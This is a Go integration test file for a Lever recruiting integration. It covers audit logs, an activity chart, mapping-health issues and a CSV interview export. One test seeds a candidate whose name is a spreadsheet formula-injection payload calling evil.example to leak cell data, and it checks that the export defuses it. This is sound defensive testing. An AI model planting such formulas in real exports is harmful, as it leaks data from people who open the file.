package main

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"github.com/intervue/lever-integration/models"
)

// demoOrgID is the id of the demo organization the app seeds.
func demoOrgID(t testing.TB, store *models.Store) string {
	t.Helper()
	orgs, err := store.Organizations(context.Background())
	if err != nil || len(orgs) == 0 {
		t.Fatalf("organizations: %v", err)
	}
	for _, o := range orgs {
		if o.Name == "Demo Co" {
			return o.ID
		}
	}
	return orgs[0].ID
}

// htmxGet fetches path as htmx would (a fragment) and parses it.
func htmxGet(t testing.TB, app *testApp, c *http.Client, path string) *goquery.Document {
	t.Helper()
	req, _ := http.NewRequest("GET", app.URL+path, nil)
	req.Header.Set("HX-Request", "true")
	resp, body := do(t, c, req)
	if resp.StatusCode != 200 {
		t.Fatalf("htmx GET %s = %d", path, resp.StatusCode)
	}
	return parseHTML(t, body)
}

// htmxPost posts a form as htmx would and parses the fragment.
func htmxPost(t testing.TB, app *testApp, c *http.Client, path string, form url.Values) *goquery.Document {
	t.Helper()
	req, _ := http.NewRequest("POST", app.URL+path, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", app.URL)
	req.Header.Set("HX-Request", "true")
	resp, body := do(t, c, req)
	if resp.StatusCode != 200 {
		t.Fatalf("htmx POST %s = %d", path, resp.StatusCode)
	}
	return parseHTML(t, body)
}

// addCandidate adds a candidate to the sandbox pipeline (no stage change
// yet) and returns its opportunity id.
func addCandidate(t testing.TB, app *testApp, name, email, postingID string) string {
	t.Helper()
	postForm(t, app, http.DefaultClient, "/sandbox/lever/pipeline/candidates",
		url.Values{"account": {sandboxAccount}, "name": {name}, "email": {email}, "posting": {postingID}})
	for _, c := range sandboxCandidates(t, app) {
		if c.Email == email {
			return c.ID
		}
	}
	t.Fatalf("candidate %q not added", name)
	return ""
}

// postingID returns the id of the first posting titled title.
func postingID(t testing.TB, app *testApp, title string) string {
	t.Helper()
	var postings []struct{ ID, Text string }
	apiJSON(t, app, "GET", "/api/v1/lever/postings?q="+url.QueryEscape(title), "", 200, &postings)
	for _, p := range postings {
		if p.Text == title {
			return p.ID
		}
	}
	t.Fatalf("no posting titled %q", title)
	return ""
}

func TestLeverHealthAndActivity(t *testing.T) {
	t.Parallel()
	app := startApp(t, nil)
	client := login(t, app, app.DemoEmail, app.DemoPassword)
	setup, _, _ := orderInterview(t, app, client, "Priya Natarajan")
	store := openStore(t, app)
	ctx := context.Background()
	orgID := demoOrgID(t, store)

	t.Run("AuditFromAPI", func(t *testing.T) {
		doc := getDoc(t, app, client, "/integrations/lever?tab=audit", 200)
		actions := doc.Find(`[data-testid="audit-row"]`).Map(func(_ int, s *goquery.Selection) string { return s.AttrOr("data-action", "") })
		for _, want := range []string{"connect", "stage_mapping", "profile_create", "posting_profile", "enabled"} {
			if !slices.Contains(actions, want) {
				t.Errorf("no %s audit entry in %v", want, actions)
			}
		}
		row := doc.Find(`[data-testid="audit-row"][data-action="enabled"]`).First()
		if who := squash(row.Find(`[data-testid="audit-who"]`)); !strings.HasPrefix(who, "API key ivk_") {
			t.Errorf("toggle by %q", who)
		}
		if b, a := row.AttrOr("data-before", ""), row.AttrOr("data-after", ""); b != `{"enabled":false}` || a != `{"enabled":true}` {
			t.Errorf("toggle %s → %s", b, a)
		}
		if got := squash(row.Find(`[data-testid="audit-change"][data-key="enabled"]`)); got != "Integration on before: Off → after: On" {
			t.Errorf("toggle shown as %q", got)
		}
		if who := squash(doc.Find(`[data-testid="audit-row"][data-action="connect"] [data-testid="audit-who"]`)); who != app.DemoEmail {
			t.Errorf("connect by %q", who)
		}
	})

	t.Run("ActivityChart", func(t *testing.T) {
		doc := screen(t, app, client)
		svg := byTestID(doc, "activity-chart")
		if svg.Length() != 1 || svg.AttrOr("role", "") != "img" {
			t.Fatal("no activity chart")
		}
		if svg.Find("title").First().Text() == "" || !strings.Contains(svg.Find("desc").Text(), "candidate moves received from Lever") {
			t.Error("chart has no title or description")
		}
		days := svg.Find(`g[data-testid="activity-day"]`)
		if days.Length() != 30 {
			t.Fatalf("%d days in the chart, want 30", days.Length())
		}
		today := time.Now().UTC().Format("2006-01-02")
		if got := days.Last().AttrOr("data-day", ""); got != today {
			t.Errorf("last day = %s, want %s", got, today)
		}
		if days.Last().Find(`rect[data-series="deliveries"]`).Length() != 1 || days.Last().Find(`rect[data-series="interviews"]`).Length() != 1 {
			t.Error("today has no delivery or interview bar")
		}
		if got := doc.Find(`[data-testid="activity-table"] tr[data-testid="activity-row"]`).Length(); got != 30 {
			t.Errorf("data table has %d rows", got)
		}
		if doc.Find(`[data-testid="activity-card"] script`).Length() != 0 {
			t.Error("the chart needs a script")
		}
	})

	t.Run("DeletedStage", func(t *testing.T) {
		c, err := store.Connection(ctx, orgID)
		if err != nil {
			t.Fatal(err)
		}
		if err := store.Gorm().Model(&models.LeverStage{}).Where("connection_id = ? AND id = ?", c.ID, setup.Stages["scheduled"]).Update("deleted", true).Error; err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			store.Gorm().Model(&models.LeverStage{}).Where("connection_id = ? AND id = ?", c.ID, setup.Stages["scheduled"]).Update("deleted", false)
		})
		doc := screen(t, app, client)
		is := byTestID(doc, "issue-stage-deleted-scheduled")
		if !strings.Contains(squash(is), `Stage "Intervue - Scheduled" was deleted in Lever`) {
			t.Errorf("issue = %q", squash(byTestID(doc, "mapping-health")))
		}
	})

	t.Run("UnmappedPostingReceivedCandidates", func(t *testing.T) {
		cand := candidateNamed(t, app, "Ada Lovelace")
		moveCandidate(t, app, cand.ID, setup.Stages["to_be_scheduled"])
		waitInterview(t, app, cand.ID, "unable_to_schedule")
		pid := postingID(t, app, cand.Posting)
		doc := screen(t, app, client)
		is := byTestID(doc, "issue-posting-unmapped-"+pid)
		if !strings.Contains(squash(is), "received 1 candidate but has no interview profile") {
			t.Fatalf("issue = %q", squash(byTestID(doc, "mapping-health")))
		}
		if rows := getDoc(t, app, client, is.Find(`[data-testid="issue-fix"]`).AttrOr("href", ""), 200).Find(`[data-testid="posting-row"]`); rows.Length() != 1 || rows.AttrOr("data-posting-id", "") != pid {
			t.Errorf("the fix link shows %d postings", rows.Length())
		}
		if got := squash(byTestID(doc, "attention-count")); got == "0" || byTestID(doc, "attention-count").AttrOr("href", "") != "/attention" {
			t.Errorf("needs attention = %q", got)
		}
	})
}

func TestInterviewsCSV(t *testing.T) {
	t.Parallel()
	app := startApp(t, nil)
	client := login(t, app, app.DemoEmail, app.DemoPassword)
	setup, cand, iv := orderInterview(t, app, client, "Grace Hopper")
	apiJSON(t, app, "POST", "/api/v1/interviews/"+iv.ID+"/schedule",
		`{"scheduled_at":"2030-04-01T08:30:00+02:00","timezone":"Europe/Berlin","duration_minutes":60,"interviewer":"Dana"}`, 200, nil)
	evil := addCandidate(t, app, `=HYPERLINK("http://evil.example/?"&A1,"x")`, "-2+3@evil.example", postingID(t, app, cand.Posting))
	moveCandidate(t, app, evil, setup.Stages["to_be_scheduled"])
	waitInterview(t, app, evil, "to_be_scheduled")

	export := func(t *testing.T, query string) (*http.Response, [][]string) {
		t.Helper()
		resp, body := get(t, app, client, "/interviews.csv"+query)
		if resp.StatusCode != 200 {
			t.Fatalf("GET /interviews.csv%s = %d\n%s", query, resp.StatusCode, tail(body, 1000))
		}
		recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("not CSV: %v\n%s", err, tail(body, 1000))
		}
		return resp, recs
	}
	header := []string{"ref", "candidate", "email", "posting", "profile", "status", "scheduled_at", "timezone",
		"verdict", "failure_reason", "created_at", "updated_at", "lever_url", "report_url"}

	t.Run("All", func(t *testing.T) {
		resp, recs := export(t, "")
		if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
			t.Errorf("Content-Type = %q", ct)
		}
		if cd := resp.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.Contains(cd, ".csv") {
			t.Errorf("Content-Disposition = %q", cd)
		}
		if !slices.Equal(recs[0], header) {
			t.Fatalf("header = %v", recs[0])
		}
		if len(recs) != 3 {
			t.Fatalf("%d rows, want 2 interviews", len(recs)-1)
		}
		var grace, bad []string
		for _, r := range recs[1:] {
			switch r[1] {
			case "Grace Hopper":
				grace = r
			default:
				bad = r
			}
		}
		if grace == nil {
			t.Fatal("no Grace Hopper row")
		}
		if grace[2] != cand.Email || grace[5] != "scheduled" || grace[6] != "2030-04-01T06:30:00Z" || grace[7] != "Europe/Berlin" {
			t.Errorf("row = %v", grace)
		}
		if _, err := time.Parse(time.RFC3339, grace[10]); err != nil || !strings.HasSuffix(grace[10], "Z") {
			t.Errorf("created_at = %q", grace[10])
		}
		if !strings.HasSuffix(grace[12], "/candidates/"+cand.ID) {
			t.Errorf("lever url = %q", grace[12])
		}
		if bad[1] != `'=HYPERLINK("http://evil.example/?"&A1,"x")` || bad[2] != "'-2+3@evil.example" {
			t.Errorf("formula cells not defused: %q %q", bad[1], bad[2])
		}
	})

	today := time.Now().UTC().Format("2006-01-02")
	tomorrow := time.Now().UTC().AddDate(0, 0, 1).Format("2006-01-02")
	tests := []struct {
		name, query string
		rows        int
	}{
		{"Status", "?status=scheduled", 1},
		{"StatusNone", "?status=intervue_yes", 0},
		{"Search", "?q=" + url.QueryEscape(cand.Email), 1},
		{"Dates", "?from=" + today + "&to=" + today, 2},
		{"FromTomorrow", "?from=" + tomorrow, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, recs := export(t, tt.query)
			if len(recs)-1 != tt.rows {
				t.Errorf("%d rows, want %d", len(recs)-1, tt.rows)
			}
		})
	}

	t.Run("DashboardLinksTheExport", func(t *testing.T) {
		doc := getDoc(t, app, client, "/interviews?status=scheduled&q=grace", 200)
		href := byTestID(doc, "export-csv").AttrOr("href", "")
		u, _ := url.Parse(href)
		if u.Path != "/interviews.csv" || u.Query().Get("status") != "scheduled" || u.Query().Get("q") != "grace" {
			t.Errorf("export link = %q", href)
		}
		for _, id := range []string{"q", "from", "to"} {
			if doc.Find(`label[for="`+id+`"]`).Length() != 1 {
				t.Errorf("control %s has no label", id)
			}
		}
	})
}
